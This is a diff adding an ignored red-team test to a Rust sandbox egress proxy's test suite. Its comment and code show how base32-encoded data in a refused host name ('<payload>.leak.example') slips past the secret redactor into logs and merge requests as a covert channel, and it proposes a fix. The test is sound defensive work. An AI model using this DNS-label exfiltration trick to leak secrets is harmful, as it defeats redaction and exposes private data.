@@ -301,6 +301,27 @@ async fn a_client_past_the_connection_limit_is_answered_at_once() {
     drop(tunnels);
 }
 
+/// Refused names are recorded as asked (printable, 120 characters) and end up in
+/// `egress.yaml`, summary.md and the MR: a covert channel from the hostile set-up to
+/// whoever reads them (the public, on a public project). The redactor catches a
+/// `sandbox.env` secret as is and in hex, not in an encoding a DNS label keeps (base32,
+/// or any data that is not a known secret). Fix proposed: record a refused name by its
+/// last two labels (`*.leak.example`, with the count of distinct names below it), which
+/// is what a user needs to decide on `sandbox.egress`, and nothing of the rest.
+#[tokio::test]
+#[ignore = "red team: refused host names carry arbitrary data into egress.yaml and the MR"]
+async fn refused_names_are_not_a_channel_into_the_artifacts() {
+    let tally = Tally::new(None);
+    let port = proxy(&["allowed.example".to_string()], tally.clone()).await;
+    // Any data as a DNS label (here: base32, lowercased), which the redactor does not know.
+    let payload = "nzygwx3unnsw4plsgnshmm3bnu";
+    let answer = raw(port, &format!("CONNECT {payload}.leak.example:443 HTTP/1.1\r\n\r\n")).await;
+    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
+    let recorded = pace::proxy::render_tally(&tally.entries());
+    assert!(!recorded.contains(payload), "the payload is in the tally:\n{recorded}");
+    assert!(recorded.contains("leak.example"), "{recorded}");
+}
+
 // ---------------------------------------------------------------------------------
 // The sidecar on the real daemon.
 
